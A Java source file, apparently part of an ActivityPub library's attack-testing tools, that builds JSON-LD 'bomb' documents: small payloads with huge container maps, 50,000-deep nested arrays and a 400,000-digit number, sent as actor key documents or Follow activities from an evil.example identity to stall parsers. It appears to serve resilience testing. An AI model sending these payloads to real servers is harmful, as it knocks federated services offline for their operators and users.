package org.activitypub4j.tools.attack;

import java.net.URI;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Documents well below 1 MiB that cost some readers seconds or minutes. */
final class Bombs {
  private static final String TERM = "\"x\":{\"@id\":\"https://evil.example/ns#x\",";

  private Bombs() {}

  /**
   * A bomb.
   *
   * @param definition of a term, for the context
   * @param member of the document
   */
  record Bomb(String definition, String member) {

    /**
     * A whole document.
     *
     * @param members id, type and whatever else it is to have
     */
    String with(String members) {
      return """
          {"@context":["https://www.w3.org/ns/activitystreams","https://w3id.org/security/v1",{%s}],
           %s,%s}"""
          .formatted(definition, members, member);
    }
  }

  static Map<String, Bomb> all() {
    Map<String, Bomb> bombs = new LinkedHashMap<>();
    bombs.put(
        "an index map with an index property",
        new Bomb(
            TERM
                + "\"@container\":\"@index\",\"@index\":\"https://evil.example/ns#i\","
                + "\"@type\":\"@id\"}",
            "\"x\":{" + list(45_000, i -> "\"k" + i + "\":\"a:b\"") + "}"));
    bombs.put("a language map", map("\"@language\"", "en", 60_000, "\"\""));
    bombs.put("an index map", map("\"@index\"", "a", 60_000, "\"\""));
    bombs.put("an id map", map("\"@id\"", "a:b", 30_000, "{}"));
    bombs.put("a type map", map("\"@type\"", "a:b", 30_000, "{}"));
    bombs.put("a graph map", map("[\"@graph\",\"@index\"]", "a", 30_000, "{}"));
    bombs.put("arrays in arrays", new Bomb("", "\"x\":" + "[".repeat(50_000) + "]".repeat(50_000)));
    bombs.put("a long number", new Bomb("", "\"x\":1" + "7".repeat(400_000)));
    return bombs;
  }

  private static Bomb map(String container, String key, int count, String entry) {
    return new Bomb(
        TERM + "\"@container\":" + container + "}",
        "\"x\":{\"%s\":[%s]}".formatted(key, list(count, i -> entry)));
  }

  private static String list(int count, java.util.function.IntFunction<String> entry) {
    return IntStream.range(0, count).mapToObj(entry).collect(Collectors.joining(","));
  }

  /** The members of an actor whose key document is a bomb. */
  static String keyMembers(Identity actor) {
    return "\"id\":\"%s\",\"type\":\"Person\",\"inbox\":\"%s/inbox\",%s"
        .formatted(actor.actor(), actor.actor(), actor.publicKey());
  }

  /** The members of a Follow that is a bomb. */
  static String followMembers(Identity actor, URI object, int number) {
    return "\"id\":\"%s/bombs/%d\",\"type\":\"Follow\",\"actor\":\"%s\",\"object\":\"%s\""
        .formatted(actor.actor(), number, actor.actor(), object);
  }
}
